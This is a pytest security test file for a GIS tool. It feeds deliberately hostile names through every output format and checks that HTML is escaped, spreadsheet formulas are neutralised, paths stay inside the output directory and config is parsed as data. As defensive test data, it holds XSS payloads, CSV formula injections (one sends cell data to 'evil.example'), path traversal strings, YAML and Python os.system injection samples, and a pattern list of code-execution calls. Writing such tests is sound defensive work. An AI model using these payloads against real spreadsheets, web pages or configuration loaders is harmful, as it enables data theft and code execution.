"""Hostile strings stay text: HTML escaped, spreadsheet formulas neutralised, paths confined.

One whole run (every format) on a small area whose township, village and
enterprise names and whose area name are injection attempts; then every
output is read back. Plus a grep of the package for code-execution calls and
checks that no name or path in a configuration can write outside ``--out``.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pyogrio
import pytest
from _pipeline_fixtures import make_province, single_area

import gistool
from gistool.config import load_config, parse_config, safe_name
from gistool.errors import ConfigError
from gistool.io import write_layer

pytestmark = pytest.mark.slow

PACKAGE = Path(gistool.__file__).parent

#: Injection attempts: HTML/JS, template, spreadsheet formulas (each ends up in a name).
HOSTILE = (
    '<script>alert("village")</script>',
    "</script><img src=x onerror=alert(1)>",
    '"><svg onload=alert(2)>',
    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "{{ 7*7 }}{% raw %}",
)
AREA_NAME = '../../长葛<script>alert("area")</script>'
RAW_HTML = ("<script>alert(", "<img src=x", "<svg onload")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]:
    """A project with hostile names, run once with every output format."""
    root = tmp_path_factory.mktemp("hostile")
    prov = make_province(root / "province", n=1)
    job = single_area(prov, root / "project",
                      formats=("gpkg", "tif", "csv", "xlsx", "png", "html"))
    data = job.parent / "data"
    for kind in ("townships", "villages", "enterprises"):
        g = pyogrio.read_dataframe(data / f"{kind}.gpkg")
        g["name"] = [f"{HOSTILE[i % len(HOSTILE)]} {i}" for i in range(len(g))]
        write_layer(g, data / f"{kind}.gpkg", layer=kind, keep_layers=False)
    text = job.read_text(encoding="utf-8")
    name = re.search(r'name = "(.*)"', text).group(1)
    job.write_text(text.replace(f'name = "{name}"', f"name = '{AREA_NAME}'", 1),
                   encoding="utf-8")
    assert load_config(job).areas[0].name == AREA_NAME
    out = job.parent / "out"
    before = sorted(p for p in root.rglob("*") if "out" not in p.relative_to(root).parts)
    gistool.run(job, out=out)
    after = sorted(p for p in root.rglob("*") if "out" not in p.relative_to(root).parts
                   and ".cache" not in p.parts)
    new = [p for p in after if p not in before]
    assert new == [], f"files written outside --out: {new}"
    return root, job, out


def test_html_outputs_escape_names(hostile_run) -> None:
    _, _, out = hostile_run
    for name in ("map.html", "report.html"):
        text = (out / name).read_text(encoding="utf-8")
        for raw in RAW_HTML:
            assert raw not in text, f"{name}: unescaped {raw!r}"
        # the names did reach the page (escaped), so the check above means something
        assert "alert(" in text, name


def _csv_cells(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_cells_cannot_run_as_formulas(hostile_run) -> None:
    _, _, out = hostile_run
    files = sorted((out / "tables").glob("*.csv"))
    assert files
    seen_neutralised = False
    for path in files:
        for cell in _csv_cells(path):
            if cell.startswith(FORMULA_START):
                assert _is_number(cell), f"{path.name}: {cell!r}"
            seen_neutralised |= cell.startswith("'=HYPERLINK")
    assert seen_neutralised


def test_xlsx_cells_cannot_run_as_formulas(hostile_run) -> None:
    """XLSX keeps the text exactly, typed as a string cell: no ``<f>`` formula anywhere."""
    import zipfile

    from openpyxl import load_workbook

    _, _, out = hostile_run
    files = sorted((out / "tables").glob("*.xlsx"))
    assert files
    seen = False
    for path in files:
        with zipfile.ZipFile(path) as zf:
            for member in zf.namelist():
                if member.startswith("xl/worksheets/"):
                    xml = zf.read(member)
                    assert b"<f>" not in xml
                    assert b"<f " not in xml
        wb = load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", f"{path.name}!{c.coordinate}: {c.value!r}"
                    if isinstance(c.value, str) and c.value.startswith(FORMULA_START):
                        assert c.data_type == "s", (path.name, c.coordinate, c.value)
                        seen |= c.value.startswith("=HYPERLINK")
    assert seen


def test_layers_keep_names_as_data(hostile_run) -> None:
    """The GeoPackage is data, not a document: the names are stored exactly."""
    _, job, out = hostile_run
    src = pyogrio.read_dataframe(job.parent / "data" / "villages.gpkg")
    got = pyogrio.read_dataframe(out / "zoning.gpkg", layer="villages")
    assert sorted(got["name"]) == sorted(src["name"])


def test_names_never_become_paths(tmp_path: Path) -> None:
    """Multi-area jobs name sub-directories after areas: sanitised, inside --out."""
    from gistool.pipeline.runner import area_out

    cfg = parse_config(
        {"areas": [{"name": AREA_NAME, "builtin": "changge"},
                   {"name": "/etc/passwd", "builtin": "changge"},
                   {"name": "..", "builtin": "changge"}]},
        base=tmp_path,
    )
    out = tmp_path / "out"
    for area in cfg.areas:
        p = area_out(cfg, area, out).resolve()
        assert p.parent == out.resolve(), p
        assert p.name not in ("", ".", "..")
    assert safe_name("../../etc/x") == "etc_x"


def test_output_dir_outside_the_tree_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"output\.dir.*outside the allowed tree"):
        parse_config({"area": {"name": "x", "builtin": "changge"},
                      "output": {"dir": "../../../../tmp/elsewhere"}}, base=tmp_path)


def test_config_is_data_only(tmp_path: Path) -> None:
    """TOML through tomllib: a YAML object tag or Python code is a syntax error, not code."""
    marker = tmp_path / "pwned"
    for text in (
        f"area: !!python/object/apply:os.system ['touch {marker}']\n",
        f'[area]\nname = __import__("os").system("touch {marker}")\n',
    ):
        p = tmp_path / "job.toml"
        p.write_text(text, encoding="utf-8")
        with pytest.raises(ConfigError, match="not valid TOML"):
            load_config(p)
    assert not marker.exists()


#: Calls that turn data into code, or run a shell.
FORBIDDEN = {
    r"\beval\(": "eval",
    r"\bexec\(": "exec",
    r"\bpickle\.loads?\(": "pickle.load",
    r"\bdill\.loads?\(": "dill.load",
    r"\bmarshal\.loads?\(": "marshal.load",
    r"\byaml\.load\((?![^)]*SafeLoader)": "yaml.load without SafeLoader",
    r"\byaml\.unsafe_load\(": "yaml.unsafe_load",
    r"shell\s*=\s*True": "shell=True",
    r"\bos\.system\(": "os.system",
}


def test_package_has_no_code_execution_calls() -> None:
    found = []
    for path in sorted(PACKAGE.rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        for pattern, what in FORBIDDEN.items():
            for m in re.finditer(pattern, text):
                line = text.count("\n", 0, m.start()) + 1
                found.append(f"{path.relative_to(PACKAGE)}:{line}: {what}")
    assert found == []
    assert "tomllib.loads" in (PACKAGE / "config.py").read_text(encoding="utf-8")
